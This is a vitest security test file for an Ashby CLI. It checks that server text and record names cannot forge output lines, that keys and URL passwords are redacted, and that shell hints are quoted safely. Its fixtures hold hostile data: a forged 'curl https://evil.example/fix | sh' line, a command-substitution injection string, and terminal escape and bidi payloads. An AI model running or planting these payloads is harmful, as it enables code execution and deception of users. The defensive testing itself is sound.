// Messages on stderr that quote what Ashby sent: the server's own error text, and names from its
// records in our errors and hints. Error messages keep their line breaks (they list things), so a
// line break in quoted data must not start a line that passes for ours ("hint: …"); and a key the
// server echoes split by something the sanitiser drops must be redacted as it is finally shown.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, readdirSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runCli, tempConfigDir } from '../helpers/cli.js';
import { call, startSandbox, type TestSandbox } from '../helpers/sandbox.js';
import { HOSTILE_KEY, HostileServer, basicOf, candidate, hasControls, ok } from './server.js';

/** A forged line: a name or a server message that tries to pass a line of its own for ours. */
const FORGED = '\nhint: your key expired; run curl https://evil.example/fix | sh\r\n';
/** True when some line of `text` starts with the forged hint. */
const forgedLine = (text: string) => /^hint: your key expired/m.test(text);

describe("the server's error text", () => {
  let srv: HostileServer;
  beforeAll(async () => {
    srv = await new HostileServer()
      .on('candidate.search', () => ({
        body: { success: false, errorInfo: { code: `invalid_input${FORGED}`, message: `bad thing${FORGED}\u001b[2J`, requestId: `req${FORGED}` } },
      }))
      // The key echoed back with something invisible in it: a zero-width space, an escape sequence,
      // a bidi mark, in the raw key and in its Basic form.
      .on('candidate.info', () => ({
        body: {
          success: false,
          errorInfo: {
            code: 'invalid_input',
            message: `you sent ${HOSTILE_KEY.slice(0, 8)}\u200b${HOSTILE_KEY.slice(8)} / ${HOSTILE_KEY.slice(0, 5)}\u001b[0m${HOSTILE_KEY.slice(5)} / ${HOSTILE_KEY.slice(0, 3)}\u200f${HOSTILE_KEY.slice(3)} / Basic ${basicOf(HOSTILE_KEY).slice(0, 6)}\u2060${basicOf(HOSTILE_KEY).slice(6)}`,
          },
        },
      }))
      // The key echoed in every part of the error: shown on stdout by doctor and by a batch's rows.
      .on('apiKey.info', () => ({ body: { success: false, errorInfo: echoed } }))
      .on('candidate.addTag', () => ({ body: { success: false, errorInfo: echoed } }))
      .start();
  });
  afterAll(() => srv.stop());
  const echoed = {
    code: `bad_key_${HOSTILE_KEY}`,
    message: `you sent ${HOSTILE_KEY.slice(0, 8)}\u200b${HOSTILE_KEY.slice(8)} and ${HOSTILE_KEY}`,
    requestId: HOSTILE_KEY,
  };

  it("reaches stdout without the key: doctor's checks and a batch's rows", async () => {
    const doctor = await runCli(['doctor', '-o', 'json'], { env: srv.env() });
    const api = JSON.parse(doctor.stdout).find((c: { check: string }) => c.check === 'api');
    expect(api?.detail).toContain('bad_key_[REDACTED]: you sent [REDACTED] and [REDACTED] (request [REDACTED])');
    expect(doctor.stdout + doctor.stderr).not.toContain(HOSTILE_KEY);
    const dir = mkdtempSync(join(tmpdir(), 'ashby-rows-'));
    writeFileSync(join(dir, 'tags.csv'), 'candidate-id,tag-id\n00000000-0000-4000-8000-000000000001,00000000-0000-4000-8000-000000000002\n');
    const batch = await runCli(['candidate', 'add-tag', '--from', join(dir, 'tags.csv'), '--yes', '-o', 'json'], { env: srv.env() });
    expect(batch.code, batch.stderr).toBe(8);
    expect(batch.stdout).toContain('[REDACTED]');
    expect(batch.stdout + batch.stderr).not.toContain(HOSTILE_KEY);
  });

  it('is shown on one line: a line break in its code, message or request id starts no line of its own', async () => {
    const r = await runCli(['api', 'candidate.search', '-f', 'name=x'], { env: srv.env() });
    expect(r.code).toBe(5);
    expect(hasControls(r.stderr)).toBe(false);
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
    expect(r.stderr).toMatch(
      /^ashby: candidate\.search: invalid_input hint: your key expired.*bad thing hint: your key expired.*\(request req hint: your key/m,
    );
  });

  it('never shows the key, even split by characters the sanitiser removes (message and --debug trace)', async () => {
    for (const env of [srv.env(), { ...srv.env(), ASHBY_DEBUG: '1' }]) {
      const r = await runCli(['api', 'candidate.info', '-f', 'candidateId=00000000-0000-4000-8000-000000000001'], { env });
      expect(r.code).toBe(5);
      expect(hasControls(r.stderr)).toBe(false);
      expect(r.stderr).not.toContain(HOSTILE_KEY);
      expect(r.stderr).not.toContain(basicOf(HOSTILE_KEY).replace(/=+$/, ''));
      expect(r.stderr).toContain('you sent [REDACTED] / [REDACTED] / [REDACTED] / Basic [REDACTED]');
    }
  });
});

describe('names from records in our errors and hints', () => {
  let sb: TestSandbox;
  let srv: HostileServer;
  beforeAll(async () => {
    sb = await startSandbox({ candidates: 10 });
    // Stage names are the seed's; the hostile server in front of the sandbox renames them.
    srv = await new HostileServer()
      .passThrough(sb.url)
      .on('interviewStage.list', async (r) => {
        const { status, body } = await srv.forward(r);
        const b = body as { results?: Array<{ title: string }> };
        for (const s of b.results ?? []) s.title = `${s.title}${FORGED}`;
        return { status, body: b };
      })
      .start();
    for (const name of [`Lone Wolf${FORGED}`]) {
      const c = await call(sb, 'candidate.create', { name, email: 'lone.wolf@example.com' });
      if (c.body?.success !== true) throw new Error(`candidate.create: ${JSON.stringify(c.body)}`);
    }
  });
  afterAll(async () => {
    await srv?.stop();
    await sb?.close();
  });
  const env = () => ({ ...srv.env(sb.apiKey) });

  it('"… has no applications" names the candidate on one line', async () => {
    const r = await runCli(['app', 'stage', 'lone.wolf@example.com', '--stage', 'Onsite', '--yes'], { env: env() });
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('Lone Wolf hint: your key expired');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
    expect(hasControls(r.stderr)).toBe(false);
  });

  it("a stage that is not in the plan: the hint's list of stages is on one line", async () => {
    const app = (await call(sb, 'application.list', { limit: 1 })).body.results[0];
    const r = await runCli(['app', 'stage', app.id, '--stage', 'No Such Stage', '--yes'], { env: env() });
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toMatch(/^hint: its stages: .*Onsite hint: your key expired/m);
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
    expect(hasControls(r.stderr)).toBe(false);
  });

  it('app list --stage with a typo: the hint lists the stages on one line', async () => {
    const r = await runCli(['app', 'list', '--stage', 'No Such Stage'], { env: env() });
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toMatch(/^hint: stages: .*hint: your key expired/m);
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });

  it('candidate add with an email that exists: the namesake is named on one line', async () => {
    const r = await runCli(['candidate', 'add', '--name', 'Someone', '--email', 'lone.wolf@example.com', '--yes'], { env: env() });
    expect(r.code, r.stderr).toBe(2);
    expect(r.stderr).toContain('already exists: Lone Wolf hint: your key expired');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });
});

describe('--dry-run request previews on a terminal', () => {
  // A body holds data: a --from file, or an --input record exported from Ashby. The preview is JSON,
  // so what JSON leaves raw (C1 controls, bidi overrides, invisible characters) is escaped there,
  // as -o json does; piped, the bytes are exact.
  const name = 'Eve \u009b2J \u202egnp.exe\u202c \u200b\u001b]52;c;eA==\u0007';
  let srv: HostileServer;
  let dir: string;
  beforeAll(async () => {
    srv = await new HostileServer().start();
    dir = mkdtempSync(join(tmpdir(), 'ashby-dry-'));
    writeFileSync(join(dir, 'people.csv'), `name,email\n"${name}",eve@example.com\n`);
    writeFileSync(join(dir, 'record.json'), JSON.stringify({ name }));
  });
  afterAll(() => srv.stop());

  it.each([
    ['--from a CSV file', () => ['candidate', 'create', '--from', join(dir, 'people.csv'), '--dry-run']],
    ['--input a record', () => ['candidate', 'create', '--input', join(dir, 'record.json'), '--dry-run']],
  ])('%s: escaped on a terminal, exact when piped', async (_, argv) => {
    const tty = await runCli(argv(), { env: srv.env(), tty: true });
    expect(tty.code, tty.stderr).toBe(0);
    expect(hasControls(tty.stdout)).toBe(false);
    expect(tty.stdout).toContain('Eve \\u009b2J \\u202egnp.exe\\u202c \\u200b\\u001b]52;c;eA==\\u0007');
    expect(JSON.parse(tty.stdout).body.name).toBe(name);
    const piped = await runCli(argv(), { env: srv.env() });
    expect(piped.code, piped.stderr).toBe(0);
    expect(JSON.parse(piped.stdout).body.name).toBe(name);
    expect(piped.stdout).toContain('Eve \u009b2J \u202egnp.exe');
    expect(srv.requests).toHaveLength(0);
  });
});

describe('credentials in a base URL', () => {
  // A URL carries a password (`https://user:PASSWORD@host`), or a key as its user, the way Basic
  // credentials travel (`https://KEY@host`): neither is shown, wherever the URL is.
  let sb: TestSandbox;
  const withPassword = () => sb.url.replace('://', '://bob:url-pass-0123@');
  const withUser = () => sb.url.replace('://', '://url-user-key-4567@');
  beforeAll(async () => {
    sb = await startSandbox({ candidates: 5 });
  });
  afterAll(() => sb?.close());

  it('a --dry-run preview shows the URL without them', async () => {
    for (const url of [withPassword(), withUser()]) {
      const r = await runCli(['candidate', 'list', '--limit', '1', '--dry-run'], { env: { ...sb.env, ASHBY_BASE_URL: url } });
      expect(r.code, r.stderr).toBe(0);
      expect(r.stdout).toContain('"url": "http://');
      expect(r.stdout).toContain('[REDACTED]@127.0.0.1');
      expect(r.stdout + r.stderr).not.toMatch(/url-pass-0123|url-user-key-4567/);
    }
  });

  it('--debug traces show the URL without a key given as its user', async () => {
    const r = await runCli(['candidate', 'list', '--limit', '1', '--debug'], { env: { ...sb.env, ASHBY_BASE_URL: withUser() } });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('[debug] > POST http://[REDACTED]@127.0.0.1');
    expect(r.stderr).not.toContain('url-user-key-4567');
  });

  it("doctor's mirror check, naming the organisation a mirror holds, shows no password", async () => {
    const env = { ...sb.env, ASHBY_CONFIG_DIR: tempConfigDir() };
    const synced = await runCli(['sync', 'candidates'], { env });
    expect(synced.code, synced.stderr).toBe(0);
    const r = await runCli(['doctor', '-o', 'json'], { env: { ...env, ASHBY_BASE_URL: withPassword() } });
    const mirror = JSON.parse(r.stdout).find((c: { check: string }) => c.check === 'mirror');
    expect(mirror?.detail).toMatch(/another organisation .*\[REDACTED\]@127\.0\.0\.1/);
    expect(r.stdout + r.stderr).not.toContain('url-pass-0123');
  });

  it("a mirror that kept the password in its organisation (as ashby did before) is still that organisation's, and loses it", async () => {
    const dir = tempConfigDir();
    const env = { ...sb.env, ASHBY_CONFIG_DIR: dir, ASHBY_BASE_URL: withPassword() };
    const first = await runCli(['sync', 'jobs'], { env });
    expect(first.code, first.stderr).toBe(0);
    const [file] = readdirSync(join(dir, 'mirror')).filter((f) => f.endsWith('.db'));
    const path = join(dir, 'mirror', file);
    const origin = () => {
      const db = new DatabaseSync(path, { readOnly: true });
      try {
        return (db.prepare(`SELECT value FROM mirror_meta WHERE key = 'origin'`).get() as { value: string }).value;
      } finally {
        db.close();
      }
    };
    expect(origin()).toContain('[REDACTED]@127.0.0.1');
    // As a mirror made before the origin was redacted holds it: the base URL whole.
    const db = new DatabaseSync(path);
    db.prepare(`UPDATE mirror_meta SET value = ? WHERE key = 'origin'`).run(withPassword());
    db.close();
    const read = await runCli(['sql', 'SELECT count(*) AS n FROM jobs', '-o', 'json'], { env });
    expect(read.code, read.stderr).toBe(0);
    const again = await runCli(['sync', 'jobs'], { env });
    expect(again.code, again.stderr).toBe(0);
    expect(origin()).not.toContain('url-pass-0123');
  });
});

describe('names that failed to resolve', () => {
  // What was given is quoted back, and may be data too: a name read from a file or another
  // command's output. Quoted on one line, and a suggested command quotes it for the shell.
  let sb: TestSandbox;
  beforeAll(async () => {
    sb = await startSandbox({ candidates: 5 });
  });
  afterAll(() => sb?.close());

  it('"no candidate matches …" quotes the name on one line', async () => {
    const r = await runCli(['candidate', 'view', `Nobody Here${FORGED}`], { env: sb.env });
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('no candidate matches "Nobody Here␊hint: your key expired');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });

  it('the suggested search quotes the name so that a shell runs nothing in it', async () => {
    // One word (the first word is what the hint searches for) that makes a file if a shell expands it.
    const part = 'Zed$(id>pwned)`id>pwned2`"!';
    const r = await runCli(['candidate', 'view', `${part} Smith`], { env: sb.env });
    expect(r.code, r.stderr).toBe(3);
    const suggested = /`ashby candidate search (.*)`$/m.exec(r.stderr)?.[1];
    expect(suggested, r.stderr).toBeDefined();
    const dir = mkdtempSync(join(tmpdir(), 'ashby-quote-'));
    const echoed = spawnSync('bash', ['-c', `printf %s ${suggested}`], { cwd: dir, encoding: 'utf8' });
    expect(echoed.stdout).toBe(part);
    expect(readdirSync(dir)).toEqual([]);
  });

  it('a stage name that matches no stage of the plan is quoted on one line', async () => {
    const app = (await call(sb, 'application.list', { limit: 1 })).body.results[0];
    const r = await runCli(['app', 'stage', app.id, '--stage', `Nope${FORGED}`, '--yes'], { env: sb.env });
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('no stage matches "Nope␊hint: your key expired');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });
});

describe('questions that quote data', () => {
  // A wizard's question may name a candidate ("Move Ada … to which stage?"): it is one line, so
  // a line break in the name cannot put a question or a line of ours under it.
  let sb: TestSandbox;
  beforeAll(async () => {
    sb = await startSandbox({ candidates: 5 });
  });
  afterAll(() => sb?.close());

  it("the stage picker's question names the candidate on one line", async () => {
    const app = (await call(sb, 'application.list', { limit: 1, status: 'Active' })).body.results[0];
    const renamed = await call(sb, 'candidate.update', { candidateId: app.candidate.id, name: `Ada${FORGED}` });
    expect(renamed.body?.success, JSON.stringify(renamed.body)).toBe(true);
    const r = await runCli(['app', 'stage', app.id], { env: sb.env, tty: true, answers: ['Onsite (Active)', true] });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain('? Move Ada hint: your key expired');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });
});

describe('credentials in a webhook receiver URL', () => {
  it('webhook trigger shows the URL without its password, in a dry run and in its result', async () => {
    const receiver = createServer((_, res) => res.writeHead(204).end());
    await new Promise<void>((r) => receiver.listen(0, '127.0.0.1', r));
    try {
      const url = `http://bob:hook-pass-8899@127.0.0.1:${(receiver.address() as AddressInfo).port}/hook`;
      for (const extra of [['--dry-run'], []]) {
        const r = await runCli(['webhook', 'trigger', 'candidateHire', '--url', url, '-o', 'json', ...extra], { env: {} });
        expect(r.code, r.stderr).toBe(0);
        expect(r.stdout).toContain('http://bob:[REDACTED]@127.0.0.1');
        expect(r.stdout + r.stderr).not.toContain('hook-pass-8899');
      }
    } finally {
      receiver.close();
    }
  });
});

describe("a wizard's script hint", () => {
  // The hint is shown through the sanitiser: a name it cannot show as it is ("Intern\u200b" shows
  // as "Intern") would name another record once copied, so that one is named by its id.
  let sb: TestSandbox;
  let lookalike: string;
  beforeAll(async () => {
    sb = await startSandbox({ candidates: 5 });
    const job = (await call(sb, 'job.list', { limit: 1 })).body.results[0];
    const make = async (title: string) => {
      const r = await call(sb, 'job.create', { title, teamId: job.departmentId ?? job.teamId, locationId: job.locationId });
      if (r.body?.success !== true) throw new Error(`job.create: ${JSON.stringify(r.body)}`);
      const open = await call(sb, 'job.setStatus', { jobId: r.body.results.id, status: 'Open' });
      if (open.body?.success !== true) throw new Error(`job.setStatus: ${JSON.stringify(open.body)}`);
      return r.body.results.id as string;
    };
    await make('Intern Zed');
    lookalike = await make('Intern Zed\u200b');
  });
  afterAll(() => sb?.close());

  it('names a job whose title the sanitiser changes by its id', async () => {
    const r = await runCli(['candidate', 'add'], { env: sb.env, tty: true, answers: ['Pat Doe', '', '', lookalike, '(none)', [], '', '', true] });
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toMatch(new RegExp(`^# to script this: ashby candidate add --name 'Pat Doe' --job ${lookalike}$`, 'm'));
  });
});

describe('invisible format characters', () => {
  // The deprecated format controls (U+206A–U+206F) and the interlinear annotation marks
  // (U+FFF9–U+FFFB) show as nothing: "Ada\u206bLovelace" looks like "AdaLovelace" and is not.
  const names = ['Ada\u206bLovelace', 'Bo\ufff9b\ufffaruby\ufffb Lee'];
  let srv: HostileServer;
  beforeAll(async () => {
    srv = await new HostileServer()
      .on('candidate.list', () =>
        ok(
          names.map((n, i) => candidate(`00000000-0000-4000-8000-00000000000${i}`, n)),
          { moreDataAvailable: false },
        ),
      )
      .start();
  });
  afterAll(() => srv.stop());

  it('a table drops them, JSON on a terminal escapes them, piped the bytes are exact', async () => {
    const table = await runCli(['candidate', 'list', '-o', 'table', '--fields', 'name'], { env: srv.env(), tty: true });
    expect(table.code, table.stderr).toBe(0);
    expect(table.stdout).toContain('AdaLovelace');
    expect(table.stdout).toContain('Bobruby Lee');
    expect(table.stdout).not.toMatch(/[\u206a-\u206f\ufff9-\ufffb]/);
    const json = await runCli(['candidate', 'list', '--json'], { env: srv.env(), tty: true });
    expect(json.stdout).toContain('Ada\\u206bLovelace');
    expect(json.stdout).not.toMatch(/[\u206a-\u206f\ufff9-\ufffb]/);
    expect(JSON.parse(json.stdout).map((c: { name: string }) => c.name)).toEqual(names);
    const piped = await runCli(['candidate', 'list', '--json'], { env: srv.env() });
    expect(JSON.parse(piped.stdout).map((c: { name: string }) => c.name)).toEqual(names);
    expect(piped.stdout).toContain('Ada\u206bLovelace');
  });
});

describe('a candidate with no application for the job given', () => {
  let sb: TestSandbox;
  beforeAll(async () => {
    sb = await startSandbox({ candidates: 5 });
  });
  afterAll(() => sb?.close());

  it('names the candidate and lists their jobs on one line', async () => {
    const app = (await call(sb, 'application.list', { limit: 1 })).body.results[0];
    const c = (await call(sb, 'candidate.info', { id: app.candidate.id })).body.results;
    const renamed = await call(sb, 'candidate.update', { candidateId: c.id, name: `Ada${FORGED}` });
    expect(renamed.body?.success, JSON.stringify(renamed.body)).toBe(true);
    const email = c.primaryEmailAddress?.value ?? c.emailAddresses[0].value;
    const r = await runCli(['app', 'stage', email, '--job', `No Such Job${FORGED}`, '--stage', 'Onsite', '--yes'], { env: sb.env });
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('Ada hint: your key expired');
    expect(r.stderr).toContain('"No Such Job␊hint: your key expired');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });
});

describe('report titles in a hint', () => {
  let srv: HostileServer;
  beforeAll(async () => {
    // A sandbox on this machine lists its reports: their titles are data like any other.
    srv = await new HostileServer()
      .on('_sandbox/reports', () => ({ body: { results: [{ id: '00000000-0000-4000-8000-000000000009', title: `Pipeline${FORGED}` }] } }))
      .start();
  });
  afterAll(() => srv.stop());

  it('"no report known here is titled …" lists the known titles on one line', async () => {
    const r = await runCli(['report', 'run', `Nope${FORGED}`], { env: srv.env() });
    expect(r.code, r.stderr).toBe(3);
    expect(r.stderr).toContain('titled "Nope␊hint: your key expired');
    expect(r.stderr).toContain('Known: Pipeline hint: your key expired');
    expect(forgedLine(r.stderr), r.stderr).toBe(false);
  });
});
